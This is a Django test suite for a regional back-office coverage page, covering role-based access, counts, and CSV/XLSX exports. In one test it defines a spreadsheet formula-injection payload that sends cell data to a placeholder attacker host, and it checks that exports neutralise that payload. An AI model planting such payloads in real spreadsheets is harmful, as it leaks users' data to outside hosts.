"""Back-office coverage /kelola/cakupan/: scope per persona, pengajuan counts, exports."""

import csv
import io
import re

import pytest
from openpyxl import load_workbook

from simpul.regions.models import Region
from simpul.registry.models import Kim

from ..factories import KimFactory

pytestmark = pytest.mark.django_db

S = Kim.Status
MALICIOUS = '=HYPERLINK("http://jahat.example/?d="&A1,"klik")'


@pytest.fixture
def kims(db):
    """The same hand-computed fixture as test_coverage.py (see its docstring)."""
    rows = [
        ("a", "13.07.07.2002", S.AKTIF),
        ("b", "13.07.07.2002", S.KURANG_AKTIF),
        ("c", "13.07.07.2003", S.VAKUM),
        ("d", "13.07.07", S.AKTIF),
        ("e", "13.07.07.2004", S.PENGAJUAN),
        ("f", "13.07.07.2005", S.DITOLAK),
        ("g", "13.07.01.2001", S.AKTIF),
        ("h", "13.75.01.1001", S.AKTIF),
        ("i", "13.07", S.NONAKTIF),
        ("j", "12.71.01.1001", S.AKTIF),
        ("k", "13.75.02.1001", S.PENGAJUAN),
    ]
    for slug, code, status in rows:
        KimFactory(slug=slug, name=f"KIM Uji {slug}", region_code=code, status=status)


def table_rows(html):
    body = re.search(r"<tbody>(.*?)</tbody>", html, re.S).group(1)
    rows = {}
    for tr in re.findall(r"<tr>(.*?)</tr>", body, re.S):
        href = re.search(r'href="([^"]+)"', tr).group(1)
        rows[href] = [
            re.sub(r"<[^>]+>", "", c).strip() for c in re.findall(r"<td[^>]*>(.*?)</td>", tr)
        ]
    return rows


# --- scope -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("persona", "url", "status"),
    [
        ("admin_sumbar", "/kelola/cakupan/13.07/", 200),
        ("admin_sumbar", "/kelola/cakupan/13/", 200),
        ("admin_sumbar", "/kelola/cakupan/13.75.01/", 200),
        ("admin_sumbar", "/kelola/cakupan/12/", 404),
        ("admin_sumbar", "/kelola/cakupan/13.07.07.2002/", 404),  # a desa has no rows
        ("admin_sumbar", "/kelola/cakupan/13.99/", 404),
        ("pembina_limapuluhkota", "/kelola/cakupan/13.07/", 200),
        ("pembina_limapuluhkota", "/kelola/cakupan/13.07.07/", 200),
        ("pembina_limapuluhkota", "/kelola/cakupan/13/", 404),
        ("pembina_limapuluhkota", "/kelola/cakupan/13.75/", 404),
        ("pembina_bukittinggi", "/kelola/cakupan/13.75/", 200),
        ("pembina_bukittinggi", "/kelola/cakupan/13.07/", 404),
        ("pembina_bukittinggi", "/kelola/cakupan/13/", 404),
        ("admin_other_province", "/kelola/cakupan/13/", 404),
        ("admin_other_province", "/kelola/cakupan/13.07/", 404),
        ("admin_other_province", "/kelola/cakupan/13.75.01/", 404),
        ("admin_other_province", "/kelola/cakupan/12/", 200),
        ("warga", "/kelola/cakupan/", 404),
        ("warga", "/kelola/cakupan/13.07.07/", 404),
        ("warga", "/kelola/cakupan/ekspor.csv?wilayah=13.07", 404),
    ],
    indirect=["persona"],
)
def test_scope(persona, kims, url, status):
    _name, _user, client = persona
    assert client.get(url).status_code == status


@pytest.mark.parametrize(
    ("persona", "location"),
    [
        ("admin_sumbar", "/kelola/cakupan/13/"),
        ("pembina_limapuluhkota", "/kelola/cakupan/13.07/"),
        ("pembina_bukittinggi", "/kelola/cakupan/13.75/"),
        ("admin_other_province", "/kelola/cakupan/12/"),
    ],
    indirect=["persona"],
)
def test_index_goes_to_the_officials_own_wilayah(persona, location):
    _name, _user, client = persona
    r = client.get("/kelola/cakupan/")
    assert r.status_code == 302 and r["Location"] == location


@pytest.mark.parametrize(
    "url",
    ["/kelola/cakupan/", "/kelola/cakupan/13.07/", "/kelola/cakupan/ekspor.csv?wilayah=13.07"],
)
def test_anonymous_goes_to_login(client, db, url):
    r = client.get(url)
    assert r.status_code == 302 and r["Location"].startswith("/akun/masuk/?next=/kelola/cakupan/")


def test_office_role_needs_the_second_factor(login, admin_sumbar):
    r = login(admin_sumbar, verified=False).get("/kelola/cakupan/13.07/")
    assert r.status_code == 302
    assert r["Location"].startswith("/akun/keamanan/")
    assert r["Location"].endswith("?next=%2Fkelola%2Fcakupan%2F13.07%2F")


def test_pengurus_without_a_wilayah_role_gets_404(login, pengurus):
    assert login(pengurus).get("/kelola/cakupan/").status_code == 404


def test_nasional_picks_a_province(login, nasional):
    client = login(nasional)
    html = client.get("/kelola/cakupan/").content.decode()
    assert html.count("<option value=") == 38
    assert '<label for="provinsi">' in html
    assert '<option value="13" selected>Sumatera Barat</option>' in html
    r = client.get("/kelola/cakupan/?provinsi=12")
    assert r.status_code == 302 and r["Location"] == "/kelola/cakupan/12/"
    assert client.get("/kelola/cakupan/?provinsi=99").status_code == 404
    assert client.get("/kelola/cakupan/14/").status_code == 200


def test_pembina_asking_for_another_wilayah_via_the_index_is_404(login, pembina_bukittinggi):
    assert login(pembina_bukittinggi).get("/kelola/cakupan/?wilayah=13.07").status_code == 404


# --- content -------------------------------------------------------------------------------


def test_province_table_includes_pengajuan(login, admin_sumbar, kims):
    html = login(admin_sumbar).get("/kelola/cakupan/13/").content.decode()
    rows = table_rows(html)
    # KIM, aktif, pengajuan, desa, with an active KIM, %
    assert rows["/wilayah/13.07/"] == ["6", "4", "1", "79", "2", "2,5"]
    assert rows["/wilayah/13.75/"] == ["1", "1", "1", "24", "1", "4,2"]
    assert "2 pengajuan menunggu verifikasi" in html
    assert 'href="/kelola/cakupan/13.07/"' in html  # drill-down stays in the back office
    assert 'class="tilemap"' in html
    assert 'href="/kelola/cakupan/ekspor.csv?wilayah=13"' in html


def test_drill_down_flags_blank_spots_with_a_pengajuan(login, pembina_limapuluhkota, kims):
    html = login(pembina_limapuluhkota).get("/kelola/cakupan/13.07/").content.decode()
    rows = table_rows(html)
    assert rows["/wilayah/13.07.07/"] == ["4", "3", "1", "7", "1", "14,3"]
    blank = html.split('id="tanpa-kim"')[1]
    assert (
        '<a href="/wilayah/13.07.07.2004/">Koto Lamo</a> <span class="tag">ada pengajuan' in blank
    )
    # the province crumb is outside the pembina's scope: shown, not linked
    assert '<a href="/kelola/cakupan/13/">' not in html
    assert "<li>Sumatera Barat</li>" in html


# --- exports -------------------------------------------------------------------------------


def read_csv(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_csv_export_parses_back_with_the_right_numbers(login, admin_sumbar, kims):
    r = login(admin_sumbar).get("/kelola/cakupan/ekspor.csv?wilayah=13")
    rows = read_csv(r)

    assert 'attachment; filename="cakupan-kim-13-' in r["Content-Disposition"]
    assert rows[0] == [
        "Kode",
        "Wilayah",
        "Jenis",
        "KIM (publik)",
        "KIM aktif",
        "Pengajuan",
        "Desa/nagari/kelurahan",
        "Dengan KIM aktif",
        "Tanpa KIM aktif",
        "Persen dengan KIM aktif",
    ]
    by_code = {row[0]: row for row in rows[1:-1]}
    assert len(by_code) == 19
    assert by_code["13.07"] == [
        "13.07",
        "Kabupaten Lima Puluh Kota",
        "Kabupaten",
        "6",
        "4",
        "1",
        "79",
        "2",
        "77",
        "2.5",
    ]
    assert rows[-1] == [
        "13",
        "Jumlah Sumatera Barat",
        "",
        "7",
        "5",
        "2",
        "1265",
        "3",
        "1262",
        "0.2",
    ]


def test_exports_neutralise_formulas(login, pembina_limapuluhkota, kims):
    Region.objects.filter(code="13.07.07").update(name=MALICIOUS)
    Region.objects.filter(code="13.07.07.2001").update(name="@SUM(1+1)")
    client = login(pembina_limapuluhkota)

    rows = read_csv(client.get("/kelola/cakupan/ekspor.csv?wilayah=13.07"))
    assert rows[1 + 6][:2] == ["13.07.07", "'" + MALICIOUS]
    assert all(not cell.startswith(("=", "@", "+")) for row in rows for cell in row)

    r = client.get("/kelola/cakupan/ekspor.xlsx?wilayah=13.07")
    assert r.status_code == 200 and "spreadsheetml" in r["Content-Type"]
    wb = load_workbook(io.BytesIO(r.content))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)
    assert "'" + MALICIOUS in [c.value for c in cells]
    assert "'@SUM(1+1)" in [c.value for c in cells]


def test_xlsx_export_has_the_numbers_and_the_blank_spots(login, pembina_limapuluhkota, kims):
    r = login(pembina_limapuluhkota).get("/kelola/cakupan/ekspor.xlsx")  # defaults to 13.07
    wb = load_workbook(io.BytesIO(r.content))

    assert 'filename="cakupan-kim-13.07-' in r["Content-Disposition"]
    assert wb.sheetnames == ["Cakupan", "Tanpa KIM aktif"]
    table = [list(row) for row in wb["Cakupan"].iter_rows(values_only=True)]
    by_code = {row[0]: row for row in table[1:]}
    assert by_code["13.07.07"][3:] == [4, 3, 1, 7, 1, 6, 14.3]
    assert table[-1][:2] == ["13.07", "Jumlah Kabupaten Lima Puluh Kota"]
    assert table[-1][3:] == [6, 4, 1, 79, 2, 77, 2.5]
    blank = list(wb["Tanpa KIM aktif"].iter_rows(values_only=True))
    assert blank[0] == ("Kode", "Desa/nagari/kelurahan", "Jenis", "Kecamatan", "Ada pengajuan")
    assert len(blank) == 1 + 77
    assert ("13.07.07.2004", "Koto Lamo", "Nagari", "Kapur IX", "ya") in blank
    assert not any(row[0] == "13.07.07.2002" for row in blank)


@pytest.mark.parametrize("ext", ["csv", "xlsx"])
def test_export_outside_scope_is_404(login, pembina_bukittinggi, kims, ext):
    client = login(pembina_bukittinggi)
    assert client.get(f"/kelola/cakupan/ekspor.{ext}?wilayah=13.07").status_code == 404
    assert client.get(f"/kelola/cakupan/ekspor.{ext}?wilayah=13").status_code == 404
    assert client.get(f"/kelola/cakupan/ekspor.{ext}?wilayah=13.75").status_code == 200
